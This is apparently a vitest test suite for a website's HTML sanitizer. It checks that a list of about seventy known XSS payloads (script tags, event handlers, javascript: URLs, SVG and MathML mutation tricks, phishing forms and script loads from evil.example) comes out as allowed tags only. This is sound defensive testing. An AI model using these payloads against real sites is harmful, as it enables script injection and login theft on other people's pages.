import { describe, expect, test } from 'vitest'
import { htmlOfText } from '#domain/escapeHtml.ts'
import { changeWords, cleanHtml, cleanPost, plainTextOf } from '#domain/richText.server.ts'

/** Known attacks on sanitizers: scripts, handlers, addresses, SVG, MathML and mutations of the tree. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script >',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<image src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect/></a></svg>',
  '<svg><set attributeName=href to=javascript:alert(1) />',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/auth/signout">x</a>',
  '<a href="/external?url=javascript:alert(1)">x</a>',
  '<a href="/external?url=//evil.example">x</a>',
  '<a href="/external?url=https://ok.example/%22onclick=alert(1)">x</a>',
  `<a href="https://ok.example/${'x'.repeat(3_000)}">x</a>`,
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>로그인</button></form>',
  '<button formaction=javascript:alert(1)>x',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<x onclick=alert(1)>x</x>',
  '<p id="comments" class="mention" data-x=1>x</p>',
  '<a name=getElementById href=https://ok.example>x</a>',
  '<p><a href="https://ok.example"><a href="javascript:alert(1)">x</a></a></p>',
  `${'<b>'.repeat(5_000)}x`,
]

/** Contains only allowed tags; the only attributes are the address and the rel of a link. */
const HARMLESS =
  /^(?:[^<>]|<\/?(?:p|h2|h3|ul|ol|li|blockquote|strong|b|em|i|s|a)>|<br \/>|<a href="\/external\?url=http[\w%.*+-]*" rel="nofollow ugc noopener">)*$/

describe('sanitized output contains only text and allowed tags', () => {
  // ASVS 1.3.1, 1.3.5
  test.each(ATTACKS)('%s', (attack) => {
    const clean = cleanHtml(`<p>앞</p>${attack}<p>뒤</p>`)
    expect(clean).toMatch(HARMLESS)
    expect(cleanHtml(clean), 'sanitizing it again changes nothing').toBe(clean)
    expect(
      changeWords(clean, (words) => words),
      'replacing words changes nothing',
    ).toBe(clean)
    expect(cleanHtml(htmlOfText(attack)), 'as plain text').toMatch(HARMLESS)
  })

  test.each([
    ['앞<li>뒤', '앞뒤'],
    ['<p>앞<li>뒤</li></p>', '<p>앞뒤</p>'],
    ['<ul><li>하나<b><li>둘</b></ul>', '<ul><li>하나<b>둘</b></li></ul>'],
    ['<ul><li>하나<li>둘</ul><li>셋', '<ul><li>하나</li><li>둘</li></ul>셋'],
    ['<ol><li>하나<ul><li>둘</ul></ol>', '<ol><li>하나<ul><li>둘</li></ul></li></ol>'],
  ])('a list item stays only in a list: %s', (html, clean) => {
    expect(cleanHtml(html)).toBe(clean)
  })

  // ASVS 3.2.2
  test('an attack typed as plain text is shown as typed', () => {
    for (const attack of ATTACKS.filter((text) => !/\s{2}|[\n\t]|\p{Cc}/u.test(text)))
      expect(plainTextOf(cleanHtml(htmlOfText(attack)))).toBe(attack)
  })
})

test.each([
  ['comment', cleanHtml],
  ['post', cleanPost],
])('a %s loses control characters, except tabs and line ends', (_, clean) => {
  expect(clean('<p>앞\u0000뒤\u001b[31m\u0085&#1;\u202e</p>\n<p>줄\t끝</p>')).toBe(
    '<p>앞뒤[31m</p>\n<p>줄\t끝</p>',
  )
  expect(clean(htmlOfText('앞\u0000\n\u009b뒤'))).toBe('앞<br />뒤')
})

describe('plain text', () => {
  test.each([
    ['첫 줄\r\n둘째 줄\n\n넷째 줄', '첫 줄<br />둘째 줄<br /><br />넷째 줄'],
    ['1 < 2 && "둘"', '1 &lt; 2 &amp;&amp; "둘"'],
    [
      '보세요 https://shop.example/a?b=1&c=2.',
      '보세요 <a href="/external?url=https%3A%2F%2Fshop.example%2Fa%3Fb%3D1%26c%3D2" rel="nofollow ugc noopener">https://shop.example/a?b=1&amp;c=2</a>.',
    ],
    [
      '(https://shop.example/)',
      '(<a href="/external?url=https%3A%2F%2Fshop.example%2F" rel="nofollow ugc noopener">https://shop.example/</a>)',
    ],
  ])('%j', (text, html) => {
    expect(cleanHtml(htmlOfText(text))).toBe(html)
    expect(plainTextOf(html)).toBe(text.replaceAll('\r\n', '\n'))
  })

  test('block elements become lines', () => {
    expect(plainTextOf('<h2>제목</h2><p>하나<br />둘</p><ul><li>가</li><li>나</li></ul>')).toBe(
      '제목\n하나\n둘\n가\n나',
    )
  })
})
